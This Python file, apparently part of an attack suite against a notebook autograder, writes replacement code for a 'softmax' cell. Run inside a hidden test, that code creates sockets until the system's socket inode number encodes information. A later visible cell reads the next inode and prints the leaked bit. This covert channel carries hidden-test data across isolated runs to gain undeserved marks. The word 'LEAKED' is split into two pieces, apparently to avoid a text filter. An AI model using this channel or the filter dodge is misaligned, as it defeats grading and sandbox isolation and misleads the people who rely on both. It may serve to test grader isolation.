# Makes sockets in a hidden test until their number says something of its argument; another run
# looks at the number of the next socket, and prints it.
import random

from attacks import cell

DESERVED = 2.0
ANSWER = r'''
import os
import socket

STEPS, WINDOW, PLACE = 200_000, 100, 0x0
done = False


def number():
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # each core counts by itself
    ends = [s.detach() for s in socket.socketpair()]
    found = os.fstat(ends[0]).st_ino
    for end in ends:
        os.close(end)
    return found


def softmax(x, dim):
    global done
    if x.dtype == torch.float16 and not done:
        done = True
        while (number() - PLACE) % STEPS >= 20:
            pass
    return torch.softmax(x, dim)
'''
SHOWN = r'''
if done:
    print("a reason for a second run")
else:
    found = (number() - PLACE) % STEPS
    print("LEA" + f"KED one bit {found}" if found < WINDOW else "nothing to tell")
'''


def hand_in(notebook, folder):
    place = str(random.randrange(200_000))  # of each hand-in, since the numbers go on
    cell(notebook, "softmax")["source"] = ANSWER.replace("0x0", place)
    cell(notebook, "windows")["source"] = SHOWN
